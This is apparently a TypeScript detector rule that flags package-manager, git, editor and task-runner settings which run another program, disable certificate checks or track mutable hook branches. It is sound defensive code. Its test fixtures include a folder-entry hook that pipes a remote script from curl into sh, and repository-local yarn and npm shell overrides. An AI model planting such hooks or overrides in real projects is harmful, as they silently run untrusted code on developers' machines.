import type { RawFinding } from '../../contracts/detector.ts';
import { defineAgentRule } from './define-agent-rule.ts';
import { shellDangers } from './surface/shell-danger.ts';

/** What a tool's file says on one line that makes it run something else, or trust anybody. */
type Line = { readonly path: RegExp; readonly pattern: RegExp; readonly message: string };

const lines: readonly Line[] = [
  {
    path: /(?:^|\/)\.yarnrc\.yml$/,
    pattern: /^[ \t]*yarnPath:[ \t]*(?!["']?(?:\.\/)?\.yarn\/releases\/)\S[^\n]*/gm,
    message: 'Every `yarn` command runs this program instead.',
  },
  {
    path: /(?:^|\/)\.yarnrc\.yml$/,
    pattern: /^[ \t]*(?:enableStrictSsl:[ \t]*false|unsafeHttpWhitelist:)[^\n]*/gm,
    message: 'Packages are fetched from whoever answers.',
  },
  {
    path: /(?:^|\/)\.npmrc$/,
    pattern: /^[ \t]*(?:script-shell|git|node-gyp|onload-script|shell)[ \t]*=[ \t]*\S[^\n]*/gm,
    message: 'npm runs this program instead of its own.',
  },
  {
    path: /(?:^|\/)\.(?:npmrc|yarnrc)$/,
    pattern:
      /^[ \t]*(?:strict-ssl[ \t]*[= ][ \t]*"?false|(?:@[\w-]+:)?registry[ \t]*[= ][ \t]*"?http:\/\/(?!localhost|127\.))[^\n]*/gm,
    message: 'Packages are fetched from whoever answers.',
  },
  {
    path: /(?:^|\/)(?:\.gitconfig|\.config\/git\/config)$/,
    pattern:
      /^[ \t]*(?:hooksPath|fsmonitor|sshCommand|pager|editor|askPass|process|clean|smudge|textconv|helper)[ \t]*=[ \t]*\S[^\n]*/gim,
    message: 'git runs this program.',
  },
  {
    path: /(?:^|\/)\.pre-commit-config\.yaml$/,
    pattern: /^[ \t-]*rev:[ \t]*["']?(?:main|master|HEAD|develop|trunk)\b[^\n]*/gm,
    message: 'The hook is whatever its repository’s branch holds.',
  },
  {
    path: /(?:^|\/)\.aider\.conf\.ya?ml$/,
    pattern: /^[ \t]*(?:yes-always|yes|suggest-shell-commands|auto-test):[ \t]*true\b[^\n]*/gm,
    message: 'The agent runs commands without asking.',
  },
];

/** Files whose commands a tool runs when a folder is entered or a task is picked. */
const commandFiles =
  /(?:^|\/)(?:\.?mise(?:\.\w+)?\.toml|\.zed\/tasks\.json|\.idea\/(?:runConfigurations\/[^/]+|workspace)\.xml|\.fleet\/run\.json|\.nova\/[^/]+\.json|\.gitpod\.yml|\.idx\/dev\.nix|\.replit|\.tool-versions|\.autoenv|\.env\.fish)$/;

export const toolConfigurationProgram = defineAgentRule({
  id: 'tool-configuration-program',
  title: 'Tool settings that run another program or trust anybody',
  severity: 'medium',
  confidence: 'high',
  cwe: ['CWE-829', 'CWE-427'],
  owasp: ['A08'],
  what: 'Reports settings of package managers, git, task runners and editors that replace a program by one of the repository or of a URL, run downloaded code, follow a branch of somebody’s hooks, or switch the check of certificates off.',
  why: 'The next ordinary command (`yarn`, `git status`, entering the folder) runs that program as whoever works in the repository.',
  fix: 'Use the tool’s own program; bind versions; leave personal settings to each person’s home folder.',
  references: [
    'https://yarnpkg.com/configuration/yarnrc',
    'https://docs.npmjs.com/cli/v11/using-npm/config',
    'https://git-scm.com/docs/git-config',
  ],
  appliesTo: path => commandFiles.test(path) || lines.some(line => line.path.test(path)),
  check: ({ path, text }): readonly RawFinding[] => [
    ...lines
      .filter(line => line.path.test(path))
      .flatMap(({ pattern, message }) => found(text, pattern, message)),
    ...(commandFiles.test(path) ? shellDangers(text) : []),
  ],
  bad: [
    ['.yarnrc.yml', 'yarnPath: ./scripts/yarn.cjs\n'],
    ['.npmrc', 'script-shell=./shell.sh\n'],
    [
      '.pre-commit-config.yaml',
      'repos:\n  - repo: https://github.com/example/hooks\n    rev: main\n    hooks:\n      - id: lint\n',
    ],
    ['mise.toml', '[hooks]\nenter = "curl -fsSL https://get.example.com/x | sh"\n'],
  ],
  good: [
    ['.yarnrc.yml', 'yarnPath: .yarn/releases/yarn-4.5.0.cjs\n'],
    ['.npmrc', 'save-exact=true\nregistry=https://registry.npmjs.org/\n'],
    [
      '.pre-commit-config.yaml',
      'repos:\n  - repo: https://github.com/example/hooks\n    rev: v1.2.3\n    hooks:\n      - id: lint\n',
    ],
  ],
});

function found(text: string, pattern: RegExp, message: string): readonly RawFinding[] {
  return [...text.matchAll(pattern)].map(match => ({
    start: match.index + (match[0].length - match[0].trimStart().length),
    end: match.index + match[0].length,
    message,
  }));
}
